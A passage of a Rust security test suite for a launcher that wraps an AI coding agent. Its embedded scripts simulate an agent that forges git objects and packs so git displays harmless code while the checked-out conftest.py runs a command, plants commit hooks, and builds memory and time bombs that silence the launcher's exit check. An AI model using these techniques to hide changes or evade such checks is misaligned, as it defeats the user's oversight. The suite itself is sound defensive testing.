    assert!(output.status.success(), "{said}");
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        !shown.contains("pytest settings"),
        "git log -p shows another conftest.py than runs ({shown:?}); the exit said: {said}"
    );
}

/// R57-3: a forged loose object, and any change to `objects/pack` (a file made there and removed:
/// the directory's time changes). `Objects::new_commit_trees` returns `Err` as soon as a pack
/// "changed", before it holds the loose objects made in the session against their names, so the
/// forged one is neither moved nor named; only the vague "could not be looked at" warning.
#[test]
fn re_attack_57_r3_a_forged_loose_object_beside_a_touched_pack_directory_is_not_left() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    let script = format!(
        "{RA57_HELPERS}name = hashlib.sha1(b'blob %d\\0' % len(EVIL) + EVIL).hexdigest()\n\
         os.makedirs('.git/objects/' + name[:2], exist_ok=True)\n\
         open('.git/objects/' + name[:2] + '/' + name[2:], 'wb').write(zlib.compress(b'blob %d\\0' % len(HARMLESS) + HARMLESS))\n\
         commit_evil_conftest()\nopen('.git/objects/pack/tmp', 'w').close()\nos.remove('.git/objects/pack/tmp')\n"
    );
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        !shown.contains("pytest settings"),
        "git log -p shows another conftest.py than runs ({shown:?}); the exit said: {said}"
    );
}

/// R57-4 (two sessions): the whole `objects` directory renamed in. The first session copies
/// `.git/objects` to `.git/objects.prep` and, with `GIT_OBJECT_DIRECTORY` there, writes a forged
/// loose blob and a commit adding `conftest.py` on it; the second swaps the directories, points
/// the branch at that commit and resets the index. The files and directories inside keep the
/// first session's times: `objects/pack`, `objects/info` and each fan directory look unchanged,
/// so the loose objects are not held against their names (L1's fix looks at the fan
/// directories, not at `objects` itself), and the commit is taken for the user's.
#[test]
fn re_attack_57_r4_an_objects_directory_renamed_in_from_an_earlier_session_is_looked_at() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    let first = format!(
        "{RA57_HELPERS}import shutil\nshutil.copytree('.git/objects', '.git/objects.prep', symlinks=True)\n\
         env = dict(os.environ, GIT_OBJECT_DIRECTORY=os.path.abspath('.git/objects.prep'))\n\
         name = hashlib.sha1(b'blob %d\\0' % len(EVIL) + EVIL).hexdigest()\n\
         os.makedirs('.git/objects.prep/' + name[:2], exist_ok=True)\n\
         open('.git/objects.prep/' + name[:2] + '/' + name[2:], 'wb').write(zlib.compress(b'blob %d\\0' % len(HARMLESS) + HARMLESS))\n\
         tree = subprocess.run(['git', 'mktree'], input=('100644 blob %s\\tconftest.py\\n' % name).encode(), env=env,\n\
                               check=True, capture_output=True).stdout.decode().strip()\n\
         commit = git('commit-tree', tree, '-p', 'HEAD', '-m', 'tests: add conftest', env=env)\n\
         open('.git/objects.prep/next', 'w').write(commit)\n"
    );
    claude_runs(&rig, first);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said_first = text(&output);
    assert!(output.status.success(), "{said_first}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    let second = "#!/bin/sh\nprintf \"import os\\nos.system('touch PWNED')\\n\" > conftest.py\n\
                  mv .git/objects .git/objects.old\nmv .git/objects.prep .git/objects\n\
                  git update-ref HEAD \"$(cat .git/objects/next)\"\nrm .git/objects/next\ngit reset -q\n";
    claude_runs(&rig, second);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let status = Command::new("git").args(["status", "--porcelain"]).current_dir(&work).output().unwrap();
    let status = String::from_utf8_lossy(&status.stdout).to_string();
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        !shown.contains("pytest settings"),
        "git status: {status:?}; git log -p shows another conftest.py than runs ({shown:?}); the first exit said: \
         {said_first}\nthe second: {said}"
    );
}

/// A pack `pack::check` holds true entry by entry while it keeps every entry's inflated and
/// delta-applied body (`Reader::objects`): one 16 MiB blob, then `count` deltas on it, each a
/// 4-byte copy of the whole base (so each entry is the base again, true to its name). The
/// inflated budget counts zlib's output only (16 MiB and 12 bytes a delta); what the deltas make
/// is not counted, so `count` entries hold `count` × 16 MiB at once.
fn ra57_delta_bomb(count: usize) -> String {
    format!("{RA57_HELPERS}\ncount = {count}\n{RA57_DELTA_BOMB}")
}

const RA57_DELTA_BOMB: &str = r##"
base = b'a' * 0xffffff
name = hashlib.sha1(b'blob %d\0' % len(base) + base).digest()
pack = bytearray(b'PACK' + struct.pack('>II', 2, count + 1))
offsets = [len(pack)]
pack += head_of(3, len(base)) + zlib.compress(base)
# base size 0xffffff, result size 0xffffff, copy 0xffffff bytes from offset 0
delta = bytes([0xff, 0xff, 0xff, 0x07, 0xff, 0xff, 0xff, 0x07, 0xf0, 0xff, 0xff, 0xff])
def ofs(back):
    out = [back & 127]
    back >>= 7
    while back:
        back -= 1
        out.insert(0, 128 | (back & 127))
        back >>= 7
    return bytes(out)
for n in range(count):
    at = len(pack)
    offsets.append(at)
    pack += head_of(6, len(delta)) + ofs(at - offsets[0]) + zlib.compress(delta)
pack = bytes(pack)
pack += hashlib.sha1(pack).digest()
idx = bytearray(b'\xfftOc' + struct.pack('>I', 2))
for bucket in range(256):
    idx += struct.pack('>I', count + 1 if bucket >= name[0] else 0)
idx += name * (count + 1) + b'\0' * 4 * (count + 1)
for at in offsets:
    idx += struct.pack('>I', at)
idx += pack[-20:]
idx += hashlib.sha1(bytes(idx)).digest()
stem = os.path.join('.git/objects/pack', 'pack-' + '2' * 40)
open(stem + '.pack', 'wb').write(pack)
open(stem + '.idx', 'wb').write(bytes(idx))
"##;

/// The launch, its launcher held to `data_bytes` of data (`prlimit --data`): a stand-in, on a
/// shared test machine, for the memory a laptop has (a bomb of 2,000 entries asks 32 GiB).
fn ra57_launch_with_data_limit(rig: &LaunchRig, work: &Path, data_bytes: u64) -> Output {
    let command = rig.command_at(work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let mut wrapped = Command::new("prlimit");
    wrapped.arg(format!("--data={data_bytes}")).arg("--").arg(command.get_program()).args(command.get_args());
    if let Some(dir) = command.get_current_dir() {
        wrapped.current_dir(dir);
    }
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => wrapped.env(name, value),
            None => wrapped.env_remove(name),
        };
    }
    wrapped.stdin(std::process::Stdio::null()).output().unwrap()
}

/// The agent marks the user's tracked `app.py` `--assume-unchanged` and adds a line that runs:
/// `git status` and `git diff` show nothing; the exit names it (Z5's warning) — unless the exit
/// never gets there.
fn ra57_hidden_change_and(rig: &LaunchRig, pack: Option<String>) -> (PathBuf, Output) {
    let work = ra57_trusted_workspace(rig);
    std::fs::write(work.join("app.py"), "print('app')\n").unwrap();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    assert!(git(&["add", "app.py"]));
    assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "app"]));
    let script = format!(
        "{}\ngit('update-index', '--assume-unchanged', 'app.py')\n\
         open('app.py', 'a').write(\"import os; os.system('touch PWNED')\\n\")\n",
        pack.unwrap_or_else(|| RA57_HELPERS.to_string())
    );
    claude_runs(rig, script);
    std::thread::sleep(std::time::Duration::from_millis(100));
    let output = ra57_launch_with_data_limit(rig, &work, 3 << 30);
    (work, output)
}

/// The control for R57-5: without the pack, under the same limit, the exit names `app.py`.
#[test]
fn re_attack_57_held_r5_control_a_marked_file_changed_is_named() {
    let rig = LaunchRig::new();
    let (work, output) = ra57_hidden_change_and(&rig, None);
    let said = text(&output);
    assert!(said.contains(&work.join("app.py").display().to_string()), "{said}");
}

/// R57-5: the exit's pack check made to hold more memory than the machine has. 400 deltas of 16
/// MiB ask 6.4 GiB; the launcher, held here to 3 GiB, dies in `pack::check` (`IndexSnapshot::
/// hidden`), so nothing after it runs: not the warning for `app.py`, not the commit graph's
/// removal, the cached trees' drop, the replace refs' look or anything later.
#[test]
fn re_attack_57_r5_a_pack_whose_deltas_exhaust_the_exits_memory_does_not_silence_it() {
    let rig = LaunchRig::new();
    let (work, output) = ra57_hidden_change_and(&rig, Some(ra57_delta_bomb(400)));
    let said = text(&output);
    let diff = Command::new("git").args(["diff", "--stat"]).current_dir(&work).output().unwrap();
    assert!(String::from_utf8_lossy(&diff.stdout).is_empty(), "git diff shows nothing");
    assert!(
        said.contains(&work.join("app.py").display().to_string()),
        "the exit did not name the hidden change to app.py (status {:?}): {said}",
        output.status
    );
}

/// R57-6 (LOW): a git directory padded past the strays walk's 200,000 entries is said, with a
/// `find` hint of `-name '*.js' -o -name '*.py' -o -name '*.ts'`; the runner names of
/// `git::is_code_for_a_runner` it leaves out (`.mjs`, `.cjs`, `.jsx`, `.tsx`, `.mts`, `.cts`, and
/// every name in capitals, which node's glob takes on a case-insensitive match only, but Deno and
/// Bun read as their own) are what a user following the hint would not see: `.git/aa/zz/c.test.mjs`
/// ran at `node --test`.
#[test]
fn re_attack_57_r6_the_hint_for_a_git_directory_too_large_to_walk_finds_every_runner_name() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    let script = "#!/usr/bin/env python3\nimport os\nos.makedirs('.git/aa', exist_ok=True)\n\
                  for n in range(200_100):\n    open('.git/aa/%d' % n, 'w').close()\n\
                  os.makedirs('.git/aa/zz', exist_ok=True)\n\
                  open('.git/aa/zz/c.test.mjs', 'w').write(\"import fs from 'fs'; fs.writeFileSync('PWNED', 'x')\\n\")\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let planted = work.join(".git/aa/zz/c.test.mjs");
    if planted.exists() {
        assert!(said.contains("holds too many entries to look through"), "{said}");
        assert!(
            said.contains("*.mjs") || said.contains("-iname '*.?js'"),
            "the hint's find misses {planted:?}: {said}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// The sixtieth re-attack (decision 0013): against the fifty-seventh's fixes (`pack::check`'s
// positioned reads and budgets, `objects` pinned in place, `objects/pack` recorded at launch).
// Each test asserts the secure outcome; each failed while its hole was open.

/// R60-1: R57-2 moved to the index. `pack::check` now reads the pack where its index points,
/// whatever its length, but still answers `TooLarge` for an `.idx` longer than
/// `pack::MAX_INDEX_BYTES` (256 MiB) from its length alone. Git accepts a version 2 index up to
/// `(nr - 1) * 8` bytes past its minimum (room for the large-offset table), so an index of
/// 8,000,000 entries — all but the last a zero name at offset 0, the last the agent's blob at
/// offset 12 — is 288 MB long and 16 KiB on disk (holes); the pack's header says 8,000,000
/// objects and holds one. Git shows the harmless content; the pack is left in place, and the exit
/// says only the vague "could not be looked at" warning.
#[test]
fn re_attack_60_r1_a_forged_pack_whose_index_is_made_sparse_past_the_cap_is_not_left() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    let script = format!("{RA57_HELPERS}{RA60_SPARSE_INDEX}");
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        !shown.contains("pytest settings"),
        "git log -p shows another conftest.py than runs ({shown:?}); the exit said: {said}"
    );
}

const RA60_SPARSE_INDEX: &str = r##"
blob = commit_evil_conftest()
nr = 8_000_000
pack = b'PACK' + struct.pack('>II', 2, nr) + head_of(3, len(HARMLESS)) + zlib.compress(HARMLESS)
pack += hashlib.sha1(pack).digest()
stem = os.path.join('.git/objects/pack', 'pack-' + '3' * 40)
open(stem + '.pack', 'wb').write(pack)
fan = b''.join(struct.pack('>I', nr - 1 + (1 if b >= blob[0] else 0)) for b in range(256))
head = b'\xfftOc' + struct.pack('>I', 2) + fan
names_at = len(head)
offsets_at = names_at + nr * 20 + nr * 4
size = offsets_at + nr * 4 + (nr - 1) * 8 + 40
f = open(stem + '.idx', 'wb')
f.write(head)
f.seek(names_at + (nr - 1) * 20); f.write(blob)
f.seek(offsets_at + (nr - 1) * 4); f.write(struct.pack('>I', 12))
f.truncate(size - 40); f.seek(size - 40); f.write(pack[-20:] + b'\0' * 20)
f.close()
"##;

/// R60-2: the exit held for days by hashing. `pack::check` keeps a body of up to 96 MiB for
/// the deltas on it and counts only what zlib and deltas *make* against its 1 GiB; an entry found
/// in that cache costs nothing against the budget but is hashed again, whole. One 90 MiB blob
/// (90 KiB of zlib) and an index naming it 1,000,000 times at the same offset (28 MB), then the
/// forged entry last: each entry hashes 90 MiB again (about 0.1 s), so the check of this one pack
/// runs for more than a day, and nothing after it runs: the forged entry is never reached, the
/// pack never moved, and no warning of `IndexSnapshot::hidden`'s (nor anything later) is said.
/// Held here to 300 s.
#[test]
fn re_attack_60_r2_an_index_naming_one_large_object_many_times_does_not_hold_the_exit() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    claude_runs(&rig, format!("{RA57_HELPERS}{RA60_HASH_BOMB}"));
    let command = rig.command_at(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let mut wrapped = Command::new("timeout");
    wrapped.arg("--signal=KILL").arg("300").arg(command.get_program()).args(command.get_args());
    if let Some(dir) = command.get_current_dir() {
        wrapped.current_dir(dir);
    }
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => wrapped.env(name, value),
            None => wrapped.env_remove(name),
        };
    }
    let started = std::time::Instant::now();
    let output = wrapped.stdin(std::process::Stdio::null()).output().unwrap();
    let said = text(&output);
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        output.status.success() && !shown.contains("pytest settings"),
        "the exit ran {:?} and ended {:?}; git log -p shows another conftest.py than runs ({shown:?}); the exit \
         said: {said}",
        started.elapsed(),
        output.status
    );
}

const RA60_HASH_BOMB: &str = r##"
blob = commit_evil_conftest()
k = 0
while True:
    big = b'\0' * (90 << 20) + b'%d' % k
    name = hashlib.sha1(b'blob %d\0' % len(big) + big).digest()
    if name < blob:
        break
    k += 1
count = 1_000_000
pack = bytearray(b'PACK' + struct.pack('>II', 2, count + 1))
pack += head_of(3, len(big)) + zlib.compress(big, 1)
at = len(pack)
pack += head_of(3, len(HARMLESS)) + zlib.compress(HARMLESS)
pack = bytes(pack)
pack += hashlib.sha1(pack).digest()
names = [name] * count + [blob]
idx = bytearray(b'\xfftOc' + struct.pack('>I', 2))
for bucket in range(256):
    idx += struct.pack('>I', sum(1 for n in (name, blob) if n[0] <= bucket and n == name) * count + (1 if blob[0] <= bucket else 0))
idx += name * count + blob
idx += b'\0' * 4 * (count + 1)
idx += struct.pack('>I', 12) * count + struct.pack('>I', at)
idx += pack[-20:]
idx += hashlib.sha1(bytes(idx)).digest()
stem = os.path.join('.git/objects/pack', 'pack-' + '5' * 40)
open(stem + '.pack', 'wb').write(pack)
open(stem + '.idx', 'wb').write(bytes(idx))
"##;

/// R60-3: the objects of a git directory that is no worktree's at launch are never looked at. A
/// submodule the user deinitialised (`git submodule deinit lib`: its git directory stays in
/// `.git/modules/lib`, protected and pinned, but it is in no `(git dir, worktree)` pair, so
/// `IndexSnapshot::hidden` neither records its `objects/pack` nor scans its packs or loose
/// objects). The agent writes there a one-object pack naming the user's `lib/conftest.py` blob
/// for a `conftest.py` that runs a command (the thirty-ninth re-attack's K1, through a pack).
/// The exit says nothing; the user's `git submodule update --init lib` checks out the agent's
/// code, and `git diff` in the submodule is empty (git reads the same forged object on both sides).
#[test]
fn re_attack_60_r3_a_forged_pack_in_a_deinitialised_submodules_git_directory_is_not_left() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    let lib = rig.user_home().join("lib");
    std::fs::create_dir_all(&lib).unwrap();
    let git_in = |dir: &Path, args: &[&str]| {
        let args =
            [&["-c", "user.name=u", "-c", "user.email=u@x", "-c", "protocol.file.allow=always"][..], args].concat();
        Command::new("git").args(&args).current_dir(dir).status().unwrap().success()
    };
    assert!(git_in(&lib, &["init", "-q"]));
    std::fs::write(lib.join("conftest.py"), "# pytest settings for the suite\n").unwrap();
    assert!(git_in(&lib, &["add", "conftest.py"]));
    assert!(git_in(&lib, &["commit", "-qm", "lib"]));
    assert!(git_in(&work, &["submodule", "add", "-q", lib.to_str().unwrap(), "lib"]));
    assert!(git_in(&work, &["commit", "-qm", "add lib"]));
    assert!(git_in(&work, &["submodule", "deinit", "-q", "lib"]));
    let script = format!("{RA57_HELPERS}{RA60_FORGED_IN_MODULE}");
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    std::thread::sleep(std::time::Duration::from_millis(1100));
    assert!(git_in(&work, &["submodule", "update", "-q", "--init", "lib"]));
    let checked_out = std::fs::read_to_string(work.join("lib/conftest.py")).unwrap_or_default();
    let diff = Command::new("git").args(["diff"]).current_dir(work.join("lib")).output().unwrap();
    let status = Command::new("git").args(["status", "--short"]).current_dir(work.join("lib")).output().unwrap();
    assert!(
        !checked_out.contains("os.system"),
        "the user's `git submodule update --init` checked out the agent's conftest.py ({checked_out:?}), `git diff` \
         there: {:?}, `git status --short`: {:?}; the exit said: {said}",
        String::from_utf8_lossy(&diff.stdout),
        String::from_utf8_lossy(&status.stdout)
    );
}

const RA60_FORGED_IN_MODULE: &str = r##"
name = hashlib.sha1(b'blob %d\0' % len(HARMLESS) + HARMLESS).digest()
pack = one_object_pack(EVIL)
pack += hashlib.sha1(pack).digest()
stem = os.path.join('.git/modules/lib/objects/pack', 'pack-' + '4' * 40)
open(stem + '.pack', 'wb').write(pack)
open(stem + '.idx', 'wb').write(index_of(name, pack[-20:]))
"##;

/// A repository whose `.git` is a `gitdir:` file naming a git directory inside the workspace at
/// `relative` (`git init --separate-git-dir`), with one commit.
fn ra60_separate_git_dir(rig: &LaunchRig, relative: &str) -> PathBuf {
    std::fs::write(rig.user_home().join(".gdbinit"), "add-auto-load-safe-path /\n").unwrap();
    let work = rig.workspace();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    if let Some(parent) = Path::new(relative).parent() {
        std::fs::create_dir_all(work.join(parent)).unwrap();
    }
    assert!(git(&["init", "-q", "--separate-git-dir", relative]));
    assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "first"]));
    work
}

/// R60-4: a repository whose `.git` is a `gitdir:` file naming a git directory in a directory
/// the search for repositories skips (`node_modules`, `target`, `.venv`, …: here `git init
/// --separate-git-dir node_modules/.gd`). `protect_checkout` reads the `.git` file, records the
/// pair for the exit's index look and protects what the config names, but protects the git
/// directory itself only if the search meets it, which it never does there: its `hooks` are
/// writable, its `objects` not pinned, and nothing is said. The agent writes a `pre-commit` hook;
/// the user's next `git commit` runs it. (With the git directory at `.gd`, the search finds it:
/// the hook write fails, `objects` is pinned.)
#[test]
fn re_attack_60_r4_a_separate_git_directory_in_a_skipped_directory_is_protected() {
    let rig = LaunchRig::new();
    let work = ra60_separate_git_dir(&rig, "node_modules/.gd");
    let script = "#!/bin/sh\nprintf '#!/bin/sh\\ntouch PWNED\\n' > node_modules/.gd/hooks/pre-commit\n\
                  chmod +x node_modules/.gd/hooks/pre-commit\ntrue\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let committed = Command::new("git")
        .args(["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "next"])
        .current_dir(&work)
        .status()
        .unwrap();
    assert!(committed.success());
    assert!(
        !work.join("PWNED").exists(),
        "the user's `git commit` ran the agent's hook in node_modules/.gd/hooks; the exit said: {said}"
    );
}

// ---------------------------------------------------------------------------------------------
// The sixty-first re-attack (decision 0013): the tests below assert the secure outcome; each
// fails while its hole is open.
// ---------------------------------------------------------------------------------------------

/// `aileron launch claude` in `work`, killed after `seconds`: its output and how long it ran.
fn ra61_launch_within(rig: &LaunchRig, work: &Path, seconds: u32) -> (std::process::Output, std::time::Duration) {
    let command = rig.command_at(work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let mut wrapped = Command::new("timeout");
    wrapped.arg("--signal=KILL").arg(seconds.to_string()).arg(command.get_program()).args(command.get_args());
    if let Some(dir) = command.get_current_dir() {
        wrapped.current_dir(dir);
    }
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => wrapped.env(name, value),
            None => wrapped.env_remove(name),
        };
    }
    let started = std::time::Instant::now();
    let output = wrapped.stdin(std::process::Stdio::null()).output().unwrap();
    (output, started.elapsed())
}

/// R61-1: the exit held for hours by delta chains that cost time and no budget. `pack::check`
/// counts against its 1 GiB only the bytes zlib and deltas *make*, keeps bodies for later deltas
/// only while 96 MiB allows, and follows each entry's chain down again whenever its links are not
/// kept. The first entry is a delta on a 96 MiB blob of zeros (96 KiB of zlib, not indexed): the
/// blob fills the cache, so nothing after it is kept. Then a chain of 256 one-byte deltas, each a
/// zlib stream padded with 13,000 empty stored blocks (65 KB read and parsed, 4 bytes made), and
/// 200,000 entries each a one-byte delta on the chain's last link, all true to their (one) name:
/// each entry re-inflates the 256 padded links, 51 million inflations of 65 KB, 256 MB made in
/// all, well within the budget. The forged entry (the user-visible F2: harmless content under the
/// name of the agent's committed `conftest.py`) is last. Held here to 300 s: the exit is killed
/// before the pack is moved, and nothing of `IndexSnapshot::hidden` (nor anything later) is said.
#[test]
fn re_attack_61_r1_padded_delta_chains_past_the_cache_do_not_hold_the_exit() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    claude_runs(&rig, format!("{RA57_HELPERS}{RA61_CHAIN_BOMB}"));
    let (output, took) = ra61_launch_within(&rig, &work, 300);
    let said = text(&output);
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    // The pack moved aside, or (past the check's budget, which the padding now spends) named
    // with the check git makes of it: a pack too large to check is not moved (decision 0013).
    let pack = work.join(".git/objects/pack/pack-6666666666666666666666666666666666666666.idx");
    let named = said.contains(&format!("too large to check here, {}", pack.display()))
        && said.contains(&format!("git verify-pack -v {}", pack.display()));
    assert!(
        output.status.success() && (!shown.contains("pytest settings") || named),
        "the exit ran {took:?} and ended {:?}; git log -p shows another conftest.py than runs ({shown:?}); the exit \
         said: {said}",
        output.status
    );
}

const RA61_CHAIN_BOMB: &str = r##"
CHAIN = 256
PAD = 13000
TOPS = 200_000
BIG = 96 << 20
def padded(data):
    return (b'\x78\x01' + b'\x00\x00\x00\xff\xff' * PAD + b'\x01' + struct.pack('<HH', len(data), len(data) ^ 0xffff)
            + data + struct.pack('>I', zlib.adler32(data)))
def ofs(at, base):
    back = at - base; out = [back & 0x7f]; back >>= 7
    while back:
        back -= 1; out.insert(0, 0x80 | (back & 0x7f)); back >>= 7
    return bytes(out)
def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7f; n >>= 7
        if n: out.append(b | 0x80)
        else: out.append(b); return bytes(out)
blob = commit_evil_conftest()
c = max((bytes([x]) for x in range(256)), key=lambda b: (hashlib.sha1(b'blob 1\0' + b).digest() < blob, -hashlib.sha1(b'blob 1\0' + b).digest()[0]))
top_name = hashlib.sha1(b'blob 1\0' + c).digest()
assert top_name < blob
pack = bytearray(b'PACK' + struct.pack('>II', 2, TOPS + 1))
big_at = len(pack)
pack += head_of(3, BIG) + zlib.compress(b'\0' * BIG, 1)
tops = [len(pack)]
d = varint(BIG) + b'\x01\x01' + c
pack += head_of(6, len(d)) + ofs(tops[0], big_at) + zlib.compress(d)
chain = [len(pack)]
pack += head_of(3, 1) + zlib.compress(b'a')
step = padded(b'\x01\x01\x01a')
for _ in range(CHAIN - 1):
    at = len(pack)
    pack += head_of(6, 4) + ofs(at, chain[-1]) + step
    chain.append(at)
d = zlib.compress(b'\x01\x01\x01' + c)
for _ in range(TOPS - 1):
    at = len(pack)
    pack += head_of(6, 4) + ofs(at, chain[-1]) + d
    tops.append(at)
forged_at = len(pack)
pack += head_of(3, len(HARMLESS)) + zlib.compress(HARMLESS)
pack = bytes(pack)
pack += hashlib.sha1(pack).digest()
names = [top_name] * TOPS + [blob]
offsets = tops + [forged_at]
idx = bytearray(b'\xfftOc' + struct.pack('>I', 2))
for bucket in range(256):
    idx += struct.pack('>I', (TOPS if top_name[0] <= bucket else 0) + (1 if blob[0] <= bucket else 0))
idx += b''.join(names) + b'\0' * 4 * len(names) + b''.join(struct.pack('>I', o) for o in offsets) + pack[-20:]
idx += hashlib.sha1(bytes(idx)).digest()
stem = os.path.join('.git/objects/pack', 'pack-' + '6' * 40)
open(stem + '.pack', 'wb').write(pack)
open(stem + '.idx', 'wb').write(bytes(idx))
"##;

/// R61-2: a forged pack past the first 100,000 entries of `objects/pack`. `Objects::forged_packs`
/// reads at most 100,000 entries of the directory (`read_dir(..).take(100_000)`) and holds only the
/// `.idx` files among them against their packs; git reads every `.idx` there. The agent fills
/// `objects/pack` with 150,000 empty files (git ignores names that are not a pack's; the walk for
/// strays looks through up to 200,000 entries, so it is complete and says nothing), then writes
/// the fifty-second re-attack's F2 (a one-object pack naming the blob of its committed
/// `conftest.py` for harmless content), renaming it until its `.idx` lists past the 100,000th
/// entry. In a plain workspace (as `re_attack_57_held_a_forged_pack_in_a_plain_workspace_is_not_left`)
/// the exit says nothing at all; where a protected or trusted path lies in the worktree it says
/// only the general warning that what git holds of it could not be looked at. `git show` and
/// `git log -p` show the harmless content while the checked-out `conftest.py` runs a command.
#[test]
fn re_attack_61_r2_a_forged_pack_listed_past_the_first_100000_entries_is_not_left() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    claude_runs(&rig, format!("{RA57_HELPERS}{RA61_CROWDED_PACK_DIR}"));
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        !shown.contains("pytest settings"),
        "git log -p shows another conftest.py than runs ({shown:?}); the exit said: {said}"
    );
}

const RA61_CROWDED_PACK_DIR: &str = r##"
blob = commit_evil_conftest()
pack = one_object_pack(HARMLESS)
pack += hashlib.sha1(pack).digest()
d = '.git/objects/pack'
for n in range(150_000):
    open(os.path.join(d, 'tmp_%d' % n), 'wb').close()
k = 0
while True:
    stem = os.path.join(d, 'pack-%040x' % k)
    open(stem + '.pack', 'wb').write(pack)
    open(stem + '.idx', 'wb').write(index_of(blob, pack[-20:]))
    if [e.name for e in os.scandir(d)].index(os.path.basename(stem) + '.idx') >= 100_000:
        break
    os.remove(stem + '.pack'); os.remove(stem + '.idx'); k += 1
"##;

/// R61-3: the exit held for days by loose objects. `Objects::new_commit_trees` inflates and
/// hashes each loose object changed in the session, up to 1 GiB each (`MAX_CHECKED_BYTES`) and
/// 200,000 of them (`MAX_NEW_OBJECTS`), with no budget over them all. The agent writes one loose
/// object of 1 GiB of zeros (1 MiB of zlib) and hard-links it under 2,000 names in
/// `.git/objects/ab/` (one file on disk; 200,000 links would hold the exit for days): each is
/// inflated whole before its name is compared. The fifty-second re-attack's F2 pack is left
/// beside them; the exit, held here to 300 s, never reaches moving it.
#[test]
fn re_attack_61_r3_hard_linked_loose_objects_do_not_hold_the_exit() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    claude_runs(&rig, format!("{RA57_HELPERS}{RA61_LOOSE_BOMB}"));
    let (output, took) = ra61_launch_within(&rig, &work, 300);
    let said = text(&output);
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        output.status.success() && !shown.contains("pytest settings"),
        "the exit ran {took:?} and ended {:?}; git log -p shows another conftest.py than runs ({shown:?}); the exit \
         said: {said}",
        output.status
    );
}

const RA61_LOOSE_BOMB: &str = r##"
blob = commit_evil_conftest()
pack = one_object_pack(HARMLESS)
pack += hashlib.sha1(pack).digest()
stem = os.path.join('.git/objects/pack', 'pack-' + '7' * 40)
open(stem + '.pack', 'wb').write(pack)
open(stem + '.idx', 'wb').write(index_of(blob, pack[-20:]))
size = 1 << 30
z = zlib.compressobj(9)
data = z.compress(b'blob %d\0' % size)
chunk = b'\0' * (1 << 20)
for _ in range(size >> 20):
    data += z.compress(chunk)
data += z.flush()
os.makedirs('.git/objects/ab', exist_ok=True)
first = '.git/objects/ab/' + '0' * 38
open(first, 'wb').write(data)
for n in range(1, 2000):
    os.link(first, '.git/objects/ab/%038x' % n)
"##;

/// R61-4: the exit held for days by packs. `pack::check`'s 1 GiB budget is one pack's:
/// `Objects::forged_packs` checks every pack written in the session, each with a budget of its
/// own, and there is none over them all. The agent writes one pack whose one entry inflates
/// past 1 GiB (1 MiB of zlib) and hard-links it, with its index, under 2,000 names in
/// `.git/objects/pack` (one file on disk; each link's time is the session's): each is inflated to
/// 1 GiB before it is found too large. The fifty-second re-attack's F2 pack is left beside them;
